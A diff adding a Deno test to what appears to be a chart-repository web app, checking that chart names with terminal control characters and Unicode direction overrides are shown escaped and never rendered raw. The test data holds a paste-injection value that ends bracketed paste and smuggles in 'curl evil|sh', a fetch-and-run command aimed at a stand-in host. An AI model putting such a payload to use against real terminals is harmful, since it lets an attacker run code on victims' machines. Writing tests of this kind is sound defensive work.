@@ -252,3 +252,25 @@ Deno.test("the page of a workspace leads to its own pages, and is Chinese for wh
       /共 1 个版本/,
     );
   }));
+
+Deno.test("what is not seen in the names of a chart is shown, and not copied into a terminal", () =>
+  withChartroom(async (chartroom, upstream) => {
+    const name = "a\u001b[201~\u0003\n curl evil|sh\u202e", version = "1.0.0\u202e\u0007";
+    upstream.serve(
+      "/index.yaml",
+      JSON.stringify({
+        apiVersion: "v1",
+        entries: { [name]: [{ name, version, urls: ["a.tgz"] }] },
+      }),
+    );
+    await chartroom.register(upstream.url, { name: "odd\u202e" });
+    const { body } = await chartroom.call("GET", "/v1/apps");
+    for (const tab of ["", "/versions"]) {
+      const { status, html } = await look(chartroom, `/apps/${body.items[0].app_id}${tab}`);
+      assert.equal(status, 200);
+      assert.match(html, /a\\u\{1b\}\[201~\\u\{3\}\\u\{a\} curl/);
+      const main = html.slice(html.indexOf("<h1"), html.indexOf("</main>"));
+      // The layout's own ends of lines are no text of a stranger.
+      assert.doesNotMatch(textOf(main), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    }
+  }));
